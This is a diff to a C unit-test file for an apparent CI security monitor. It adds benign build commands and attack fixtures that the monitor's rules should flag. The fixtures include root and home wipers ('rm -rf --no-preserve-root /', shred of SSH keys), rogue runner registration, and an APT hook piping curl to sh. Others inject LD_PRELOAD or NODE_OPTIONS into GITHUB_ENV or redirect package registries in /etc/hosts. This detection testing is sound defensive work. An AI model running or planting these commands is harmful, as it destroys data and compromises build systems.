@@ -1892,6 +1892,16 @@ static const struct exec_case ordinary[] = {
 	{ "/usr/sbin/bpftool", ARGV("bpftool", "gen", "skeleton", "x.bpf.o"), SH_MAKE, NULL },
 	/* other attributes; ssh's ordinary options and local forwarding; loop and pseudo mounts */
 	{ "/usr/bin/chattr", ARGV("chattr", "+C", "/var/lib/build"), SH_MAKE, NULL },
+	/* builds remove their own trees and caches, not a home or the root */
+	{ "/usr/bin/rm", ARGV("rm", "-rf", "build/", "/tmp/tmp.x1", "/home/ci/project/dist"), SH_MAKE,
+	  NULL },
+	{ "/usr/bin/rm", ARGV("rm", "-rf", "/home/ci/.cache/pip"), SH_MAKE, NULL },
+	{ "/usr/bin/rm", ARGV("rm", "-f", "/home/ci"), SH_MAKE, NULL },
+	{ "/usr/bin/find", ARGV("find", ".", "-name", "*.o", "-delete"), SH_MAKE, NULL },
+	{ "/usr/bin/find", ARGV("find", "/home/ci/.npm/_cacache", "-type", "f", "-delete"), SH_MAKE,
+	  NULL },
+	{ "/usr/bin/find", ARGV("find", "/home/ci", "-name", "*.pyc"), SH_MAKE, NULL },
+	{ "/usr/bin/gitlab-runner", ARGV("gitlab-runner", "--version"), SH_MAKE, NULL },
 	{ "/usr/bin/lsattr", ARGV("lsattr", "-d", "/tmp"), SH_MAKE, NULL },
 	{ "/usr/bin/ssh",
 	  ARGV("ssh", "-oUserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no", "-i", "k",
@@ -2056,6 +2066,27 @@ static const struct exec_case attacks[] = {
 	{ "/usr/bin/chattr", ARGV("chattr", "+i", "/etc/cron.d/sync"), NPM_ANC, "file-made-immutable" },
 	{ "/usr/bin/chattr", ARGV("chattr", "-R", "-ia", "/root/.ssh"), NPM_ANC, "file-made-immutable" },
 	{ "/usr/local/bin/ngrok", ARGV("ngrok", "tcp", "22"), NPM_ANC, "remote-access-tunnel" },
+	{ "/tmp/r/bin/Runner.Listener",
+	  ARGV("/tmp/r/bin/Runner.Listener", "configure", "--url", "https://github.com/a/b", "--token",
+	       "AAAA", "--name", "SHA1HULUD", "--unattended"),
+	  NPM_ANC, "remote-access-tunnel" },
+	{ "/tmp/r/bin/Runner.Listener", ARGV("./bin/Runner.Listener", "run"), NPM_ANC,
+	  "remote-access-tunnel" },
+	{ "/usr/bin/gitlab-runner",
+	  ARGV("gitlab-runner", "register", "--non-interactive", "--url", "https://gitlab.com/",
+	       "--token", "glrt-x"),
+	  NPM_ANC, "remote-access-tunnel" },
+	/* Shai-Hulud 2.0's wiper, and the others' */
+	{ "/usr/bin/shred", ARGV("shred", "-uvz", "-n", "1", "/home/ci/.ssh/id_rsa"), NPM_ANC,
+	  "data-destruction" },
+	{ "/usr/bin/rm", ARGV("rm", "-rf", "--no-preserve-root", "/"), NPM_ANC, "data-destruction" },
+	{ "/usr/bin/rm", ARGV("rm", "-r", "-f", "/home/runner/"), NPM_ANC, "data-destruction" },
+	{ "/usr/bin/rm", ARGV("rm", "--recursive", "/root/*"), NPM_ANC, "data-destruction" },
+	{ "/usr/bin/find", ARGV("find", "/home/ci", "-type", "f", "-writable", "-delete"), NPM_ANC,
+	  "data-destruction" },
+	{ "/usr/bin/find",
+	  ARGV("find", "/home/ci/", "-type", "f", "-exec", "/usr/bin/shred", "-u", "{}", "+"),
+	  NPM_ANC, "data-destruction" },
 	{ "/usr/bin/cloudflared", ARGV("cloudflared", "tunnel", "--url", "http://localhost:8080"),
 	  NPM_ANC, "remote-access-tunnel" },
 	{ "/usr/bin/tmate", ARGV("tmate", "-F"), NPM_ANC, "remote-access-tunnel" },
@@ -2586,6 +2617,134 @@ static void test_default_provenance(void **state)
 	policy_free(p);
 }
 
+/* The content a written file holds, as the engine's reader returns it. */
+static const char *text_of(void *arg)
+{
+	return arg;
+}
+
+static struct bw_event_info *ev_written(struct evx *x, const char *op, const char *path,
+					const char *path2, const char *text)
+{
+	struct bw_event_info *e = ev_file(x, op, path, path2, 0, false);
+
+	e->file.content = text_of;
+	e->file.content_arg = (void *)text;
+	return e;
+}
+
+/* What a written file holds, line by line, and who wrote it. */
+struct content_case {
+	const char *path;
+	const char *text;
+	const char *exe;
+	const char *rule;
+	bool fires;
+};
+
+#define GH_ENV "/home/runner/work/_temp/_runner_file_commands/set_env_0a1b2c"
+#define GH_PATH "/home/runner/work/_temp/_runner_file_commands/add_path_0a1b2c"
+#define ENV_INJ "environment-file-injection"
+
+static const struct content_case content_cases[] = {
+	/* $GITHUB_ENV: code loaded into later steps; ordinary settings not */
+	{ GH_ENV, "CI=true\nLD_PRELOAD=/tmp/.cache/libx.so\n", "/usr/bin/bash", ENV_INJ, true },
+	{ GH_ENV, "LD_PRELOAD=libhook.so", "/usr/bin/bash", ENV_INJ, true },
+	{ GH_ENV, "export LD_AUDIT=\"/home/runner/.a.so\"", "/usr/bin/bash", ENV_INJ, true },
+	{ GH_ENV, "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libeatmydata.so", "/usr/bin/bash", ENV_INJ,
+	  false },
+	{ GH_ENV, "BASH_ENV<<EOF_1\n/home/runner/work/_temp/x.sh\nEOF_1\n", "/usr/bin/bash", ENV_INJ,
+	  true },
+	{ GH_ENV, "NODE_OPTIONS=--require /home/runner/work/_temp/hook.js", "/usr/bin/node", ENV_INJ,
+	  true },
+	{ GH_ENV, "NODE_OPTIONS=--import=data:text/javascript,import('x')", "/usr/bin/bash", ENV_INJ,
+	  true },
+	{ GH_ENV, "NODE_OPTIONS=--max-old-space-size=4096", "/usr/bin/bash", ENV_INJ, false },
+	{ GH_ENV, "NODE_OPTIONS=-r ts-node/register", "/usr/bin/bash", ENV_INJ, false },
+	{ GH_ENV, "RUBYOPT=-r/tmp/x.rb", "/usr/bin/bash", ENV_INJ, true },
+	{ GH_ENV, "RUBYOPT=-rbundler/setup -W0", "/usr/bin/bash", ENV_INJ, false },
+	{ GH_ENV, "PERL5OPT=-MDevel::Cover", "/usr/bin/bash", ENV_INJ, false },
+	{ GH_ENV, "PYTHONPATH=/home/runner/work/p/p/src\nJAVA_HOME=/opt/java\r\nENV=production\n",
+	  "/usr/bin/bash", ENV_INJ, false },
+	{ GH_ENV, NULL, "/usr/bin/bash", ENV_INJ, false }, /* unreadable */
+	{ "/etc/environment", "PATH=/usr/bin:/bin\nLD_PRELOAD=/var/tmp/.l.so\n", "/usr/bin/tee",
+	  ENV_INJ, true },
+	{ "/home/ci/.pam_environment", "BASH_ENV=/tmp/x", "/usr/bin/bash", ENV_INJ, true },
+	/* a project's own .env is no runner's */
+	{ "/home/ci/project/.env", "LD_PRELOAD=/tmp/x.so", "/usr/bin/bash", ENV_INJ, false },
+	/* $GITHUB_PATH: a temporary directory first in PATH; tool caches not */
+	{ GH_PATH, "/tmp/.x", "/usr/bin/bash", ENV_INJ, true },
+	{ GH_PATH, "/home/runner/.local/bin\n/opt/hostedtoolcache/node/20.1.0/x64/bin\n",
+	  "/usr/bin/node", ENV_INJ, false },
+	/* APT's hooks; its ordinary settings, and a package's own hook */
+	{ "/etc/apt/apt.conf.d/99cache", "APT::Update::Pre-Invoke {\"curl -s x | sh\";};",
+	  "/usr/bin/bash", "package-manager-hook", true },
+	{ "/etc/apt/apt.conf", "dpkg::post-invoke { \"/tmp/.x\"; };", "/usr/bin/tee",
+	  "package-manager-hook", true },
+	{ "/etc/apt/apt.conf.d/80-retries", "Acquire::Retries \"3\";\nAPT::Install-Recommends \"0\";",
+	  "/usr/bin/bash", "package-manager-hook", false },
+	{ "/etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f x\"; };", "/usr/bin/dpkg",
+	  "package-manager-hook", false },
+	/* the loader's search path */
+	{ "/etc/ld.so.conf.d/zz.conf", "/tmp/.l", "/usr/bin/tee", "library-search-path-hijack", true },
+	{ "/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n/home/ci/.cache/lib\n",
+	  "/usr/bin/bash", "library-search-path-hijack", true },
+	{ "/etc/ld.so.conf.d/cuda.conf", "/usr/local/cuda/lib64\n/opt/x/lib", "/usr/bin/bash",
+	  "library-search-path-hijack", false },
+	/* /etc/hosts: a registry mapped away; a test's own names not */
+	{ "/etc/hosts", "127.0.0.1 localhost\n10.9.8.7   registry.npmjs.org\n", "/usr/bin/bash",
+	  "dependency-source-redirected", true },
+	{ "/etc/hosts", "::1 ip6-localhost\n127.0.0.1 db files.PythonHosted.org.", "/usr/bin/tee",
+	  "dependency-source-redirected", true },
+	{ "/etc/hosts", "127.0.0.1 localhost\n127.0.0.1 minio.test db\n# 1.2.3.4 github.com\n",
+	  "/usr/bin/tee", "dependency-source-redirected", false },
+	{ "/etc/hosts", "10.0.0.5 github.com.internal.example", "/usr/bin/tee",
+	  "dependency-source-redirected", false },
+	/* resolv.conf by a job, and by the host's DHCP client */
+	{ "/etc/resolv.conf", "nameserver 203.0.113.9\n", "/usr/bin/bash", "resolver-changed", true },
+	{ "/etc/resolv.conf", "nameserver 10.0.0.2\n", "/usr/sbin/dhclient-script",
+	  "resolver-changed", false },
+};
+
+/* Rules on what a written file holds: read only where every other test held. */
+static void test_default_content(void **state)
+{
+	struct bw_policy *p = NULL;
+	struct bw_event_info *e;
+	struct evx x;
+
+	(void)state;
+	assert_int_equal(policy_load_default(&p, stderr), 0);
+	for (size_t i = 0; i < sizeof(content_cases) / sizeof(content_cases[0]); i++) {
+		const struct content_case *c = &content_cases[i];
+
+		e = ev_written(&x, "open-write", c->path, NULL, c->text);
+		fx_set(&x.proc, c->exe, ARGV("x"), SH_MAKE);
+		if (ev_matches(p, e, c->rule) != c->fires)
+			fail_msg("case %zu: %s holding %s, written by %s: %s expected %s", i, c->path,
+				 c->text ? c->text : "(unreadable)", c->exe, c->rule,
+				 c->fires ? "to fire" : "silent");
+	}
+	/* renamed or linked onto the file: the new name's content */
+	e = ev_written(&x, "rename", "/tmp/h.new", "/etc/hosts", "1.2.3.4 pypi.org");
+	fx_set(&x.proc, "/usr/bin/mv", ARGV("mv", "/tmp/h.new", "/etc/hosts"), NPM_ANC);
+	assert_true(ev_matches(p, e, "dependency-source-redirected"));
+	/* read only when a content: test is reached (and never for a read) */
+	e = ev_written(&x, "open-read", "/etc/hosts", NULL, NULL);
+	e->file.content = NULL;
+	assert_false(ev_matches(p, e, "dependency-source-redirected"));
+	policy_free(p);
+
+	/* content: in a rule of one's own; a line at a time, \r\n too */
+	e = ev_written(&x, "open-write", "/w/conf", NULL, "a=1\r\nkey = v\r\n");
+	assert_true(ev_hit("match: {content: {regex: '^key = v$'}}", e));
+	assert_true(ev_hit("match: {content: a=1}", e));
+	assert_false(ev_hit("match: {content: {regex: 'a=1.key'}}", e));
+	assert_false(ev_hit("match: {not: {content: {prefix: key}}}", e));
+	e->file.content = NULL;
+	assert_false(ev_hit("match: {content: {prefix: key}}", e));
+}
+
 /* An interpreter's one-liner (-c, -e) that connects to a web server; does rule fire? */
 struct oneliner_case {
 	const char *exe;
@@ -2778,6 +2937,7 @@ int main(void)
 		cmocka_unit_test(test_default_silent_on_builds),
 		cmocka_unit_test(test_container),
 		cmocka_unit_test(test_default_catches_attacks),
+		cmocka_unit_test(test_default_content),
 		cmocka_unit_test(test_default_oneliners_on_connect),
 		cmocka_unit_test(test_default_provenance),
 		cmocka_unit_test(test_deny_dynamic),
